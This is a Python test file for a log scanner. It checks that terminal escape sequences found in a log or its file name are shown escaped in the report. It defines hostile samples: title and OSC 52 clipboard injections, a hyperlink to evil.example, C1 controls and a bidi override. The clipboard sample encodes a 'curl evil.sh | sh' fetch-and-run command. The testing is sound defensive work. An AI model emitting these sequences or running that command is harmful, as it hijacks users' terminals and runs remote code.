"""A log cannot drive the terminal of whoever reads `scan`'s report: the window title, the
clipboard (OSC 52), hyperlinks, 8-bit C1 sequences and bidirectional overrides in a log (or in
a log file's name) are shown escaped, never written raw."""

from __future__ import annotations

import json
import re
import subprocess
import sys

from watch_harness import REPO

from matcher.testing import SEQ_RECORD

ESC = "\x1b"
HOSTILE = {
    "title": f"{ESC}]0;pwned{ESC}\\",
    "clipboard": f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={chr(7)}",
    "hyperlink": f"{ESC}]8;;https://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\",
    "c1_csi": "\x9b2J",
    "c1_osc": "\x9d0;title\x9c",
    "cursor": f"{ESC}[2A{ESC}[K\r",
    "bidi": "\u202egnp.exe",
    "backspace": "abc\x08\x08\x08",
}
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_scan_text_report_escapes_every_control_sequence_from_the_log(tmp_path):
    log = tmp_path / f"server{ESC}]0;name{chr(7)}.log"
    with open(log, "w", encoding="utf-8") as f:
        for n, (kind, seq) in enumerate(HOSTILE.items()):
            f.write(f"[2026-01-01 12:00:{n:02d}] RuntimeError: {kind} {seq} end\n")
        f.write("Traceback (most recent call last):\n  File \"/x.py\", line 1, in f\n"
                f"    g('{ESC}]52;c;ZXZpbA=={chr(7)}')\n"
                f"ValueError: in a traceback {ESC}]0;t{chr(7)} \x9b31m\n")
    catalog = tmp_path / "catalog.json"
    catalog.write_text(json.dumps(SEQ_RECORD))
    proc = subprocess.run([sys.executable, "-m", "matcher", "scan", "--no-builtin",
                           "--catalog", str(catalog), str(log)],
                          cwd=REPO, capture_output=True, timeout=120)
    assert proc.returncode == 1, proc.stderr
    out = proc.stdout.decode("utf-8")
    err = proc.stderr.decode("utf-8")
    assert not RAW.search(out), [m.group() for m in RAW.finditer(out)]
    assert not RAW.search(err), [m.group() for m in RAW.finditer(err)]
    # Shown, escaped: the operator still sees what the log held.
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in out
    assert "\\x9b2J" in out and "\\u202egnp.exe" in out
    assert "server\\x1b]0;name\\x07.log" in out
    assert out.count("RuntimeError") == len(HOSTILE)
